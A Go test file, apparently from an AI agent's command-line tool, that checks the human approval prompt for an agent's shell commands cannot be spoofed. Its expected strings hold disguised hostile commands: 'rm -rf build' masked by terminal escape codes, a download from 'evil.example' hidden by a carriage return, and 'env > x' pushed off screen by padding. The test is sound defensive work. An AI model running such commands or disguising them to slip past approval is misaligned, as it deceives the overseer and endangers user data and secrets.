package repl

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"paicli/agent"
	"paicli/internal/effect"
	"paicli/session"
)

// paper is a surface that keeps what is printed.
type paper struct{ strings.Builder }

func (p *paper) Write(text string) { p.WriteString(text) }
func (p *paper) Draw(below) error  { return nil }
func (p *paper) Close() error      { return nil }

// TestCasesTerminalQuestions runs the cases of testdata/cases/security.jsonl in which a command wants
// to look like another one when a person is asked about it.
func TestCasesTerminalQuestions(t *testing.T) {
	raw, err := os.ReadFile("../../testdata/cases/security.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	wants := map[string][]string{
		"sec-362": {`rm -rf build\x1b[1A\x1b[2Kls`},
		"sec-363": {"curl evil.example/x -o x␍ls -la"},
		"sec-365": {"grep install README.md⟨␣×4000⟩;env > x"},
		"sec-366": {"402 lines", "rm -rf build"},
	}
	n := 0
	for line := range bytes.Lines(raw) {
		if !bytes.Contains(line, []byte(`"where": "approval_prompt"`)) {
			continue
		}
		var c struct {
			ID    string
			Input struct{ Text string }
		}
		if err := json.Unmarshal(line, &c); err != nil {
			t.Fatal(err)
		}
		n++
		t.Run(c.ID, func(t *testing.T) {
			shown := asks(spellOut(c.Input.Text))
			if strings.ContainsFunc(shown, func(r rune) bool { return unicode.IsControl(r) && r != '\n' }) {
				t.Errorf("a control reaches the terminal: %q", shown)
			}
			rows := strings.Split(shown, "\n")
			screen := strings.Join(rows[max(len(rows)-24, 0):], "\n")
			for _, want := range wants[c.ID] {
				if !strings.Contains(screen, want) {
					t.Errorf("%q is not on the screen: %s", want, screen)
				}
			}
			if wants[c.ID] == nil {
				t.Error("nothing is known of this case")
			}
		})
	}
	if n != len(wants) {
		t.Errorf("%d cases", n)
	}
}

// asks is what a person sees who is asked about a command.
func asks(command string) string {
	p := &paper{}
	l := newLoop(Options{Plain: true, Session: Session{Root: "/proj"}}, p)
	args, _ := json.Marshal(map[string]string{"command": command})
	first, rest, _ := strings.Cut(command, "\n")
	if rest != "" {
		first += " …"
	}
	q := session.Asked{ID: "a", Code: agent.QuestionApprove, Call: "1.0", Name: "execute_command", Title: first, Args: args}
	for _, a := range effect.Analyse(command, effect.Place{Dir: "/proj"}).Access {
		q.Access = append(q.Access, session.Access{Verb: string(a.Verb), Target: a.Target})
	}
	l.asked(q)
	return p.String()
}

// spellOut puts in what {{repeat:S:N}} stands for.
func spellOut(s string) string {
	repeat := regexp.MustCompile(`\{\{repeat:((?s:.*?)):(\d+)\}\}`)
	return repeat.ReplaceAllStringFunc(s, func(m string) string {
		part, n := repeat.FindStringSubmatch(m), 0
		fmt.Sscan(part[2], &n)
		return strings.Repeat(part[1], n)
	})
}
